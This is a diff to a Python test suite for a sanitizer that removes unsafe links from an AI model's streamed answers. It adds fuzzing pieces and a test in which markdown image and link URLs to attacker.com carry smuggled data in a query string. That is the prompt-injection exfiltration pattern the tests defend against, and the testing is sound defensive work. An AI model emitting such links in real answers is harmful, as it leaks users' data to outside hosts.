@@ -17,7 +17,7 @@ from hypothesis import strategies as st
 from acl.errors import ConfigurationError
 from service.config import Settings, load_settings
 from service.generation.link_policy import LinkPolicy
-from service.generation.sanitize import REMOVED, AnswerStream, sanitize_answer, sanitized_stream
+from service.generation.sanitize import MAX_HOLD, REMOVED, AnswerStream, sanitize_answer, sanitized_stream
 from tests.link_oracle import followed_addresses
 
 SOURCE = "https://intranet.acme.com/travel.html"
@@ -76,6 +76,7 @@ PIECES = [a for _, a in ATTACKS] + [
     *("plain words ", "\n\n", f"[s]({SOURCE}) ", "[1] ", "[", "]", "(", ")", "<", ">", "!", "\\", "https://"),
     *("attacker.com", "/p?d=x", "www.", " ", "[r]: ", '"', "=", "<img src=", "<a href=", "-->", "<!--", ".com"),
     *("java", "script:", f"<{CMS}>", "<b>", "<!-- ] -->", "](", "&#58;", "/\\/"),
+    *("%41" * 700, "word " * 450),  # a word and a span longer than a stream holds
 ]
 
 
@@ -146,10 +147,14 @@ def test_a_stream_gives_what_the_whole_answer_gives_however_it_is_cut(parts: lis
         at += size
     pieces += [stream.feed(answer[at:]), stream.close()]
     cleaned = "".join(pieces)
-    assert cleaned == sanitize_answer(answer, POLICY)
+    if max(map(len, answer.split()), default=0) <= MAX_HOLD:
+        # (A longer word is removed whole once the stream sees it is long; text before it that a
+        # link could have reached may have been let out as text already. Safe either way.)
+        assert cleaned == sanitize_answer(answer, POLICY)
+    for each in (cleaned, sanitize_answer(answer, POLICY)):
+        assert all(allowed(a) or carries_nothing(a) or same_origin(a) for a in followed_addresses(each))
     # Removed links leave their text, which may meet other text: "policy" + "." + "xxx" is a domain,
     # "(" + "x" + ")" a relative link; neither reaches another host.
-    assert all(allowed(a) or carries_nothing(a) or same_origin(a) for a in followed_addresses(cleaned))
 
 
 @given(st.text(alphabet=st.characters(blacklist_characters="<>![]():/.@\\&", blacklist_categories=("Cs",))))
@@ -180,6 +185,18 @@ def test_closing_the_sanitized_stream_closes_the_models_stream() -> None:
     assert next(stream) == "word "
     stream.close()
     assert closed == [True]
+
+
+def test_an_address_longer_than_a_stream_holds_is_removed_whole_and_the_hold_stays_bounded() -> None:
+    data = "%41" * 20_000  # 60,000 characters of smuggled text in one address
+    answer = f"Flights [1].\n\n![s](https://attacker.com/p.png?d={data}) and [x](https://attacker.com/?d={data}) end"
+    stream, pieces, held = AnswerStream(POLICY), [], 0
+    for k in range(0, len(answer), 7):
+        pieces.append(stream.feed(answer[k : k + 7]))
+        held = max(held, len(stream._pending))
+    pieces.append(stream.close())
+    assert "".join(pieces) == sanitize_answer(answer, POLICY) == f"Flights [1].\n\n{REMOVED} and {REMOVED} end"
+    assert held <= 2 * MAX_HOLD + len(REMOVED)
 
 
 def test_a_construct_that_never_closes_is_let_out_as_text_after_the_hold_limit() -> None:
